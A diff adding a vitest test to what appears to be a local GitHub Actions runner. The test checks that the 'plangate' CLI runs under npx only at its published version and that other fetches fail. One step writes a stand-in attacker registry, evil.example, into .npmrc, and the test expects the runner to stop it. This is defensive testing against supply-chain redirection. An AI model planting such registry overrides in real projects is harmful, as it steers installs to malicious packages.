@@ -1,4 +1,5 @@
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { version } from "../../src/apps/cli/version.ts";
 import { at } from "../github/small-github.ts";
 import { openSmallRunner, type SmallRunner } from "./small-runner.ts";
 
@@ -62,6 +63,38 @@ jobs:
     expect(job?.outputs).toEqual({ printed: "by what was printed" });
     expect(job?.summary).toBe("## Told\n");
     expect(job?.log).toContain("Skip output 'hushed' since it may contain secret");
+  });
+
+  it("finds the command line as it is published, and nothing else of what npx could fetch", async () => {
+    const stepsSeen: string[] = [];
+    here.hooks.afterStep = ({ run, job, step }) =>
+      void stepsSeen.push(`${run.event} ${job.id} ${step.name}: ${step.conclusion}`);
+    await here.workflow(`
+on: push
+permissions: {}
+jobs:
+  one:
+    runs-on: ubuntu-24.04
+    steps:
+      - { name: at its version, run: npx --yes plangate@${version()} --version }
+      - { name: at another, if: always(), run: npx --yes plangate@9.9.9 --version }
+      - { name: another, if: always(), run: npx --yes cowsay@1.0.0 }
+      - { name: unasked, if: always(), run: npx plangate@${version()} --version }
+      - name: where a change says which
+        if: always()
+        run: echo registry=http://evil.example > .npmrc && mkdir below && cd below && npx --yes plangate@${version()} --version
+`);
+    expect(stepsSeen).toEqual([
+      "push one at its version: success",
+      "push one at another: failure",
+      "push one another: failure",
+      "push one unasked: failure",
+      "push one where a change says which: failure",
+    ]);
+    const logs = here.runner.runs[0]?.jobs[0]?.steps.map(({ log }) => said(log)[0]);
+    expect(logs?.[0]).toBe(version());
+    expect(logs?.slice(1, 4)).toEqual(Array.from({ length: 3 }, () => expect.stringContaining("404 Not Found")));
+    expect(logs?.[4]).toMatch(/\.npmrc would be obeyed$/);
   });
 
   it("can replace what other jobs of its run have left, and read what they have", async () => {
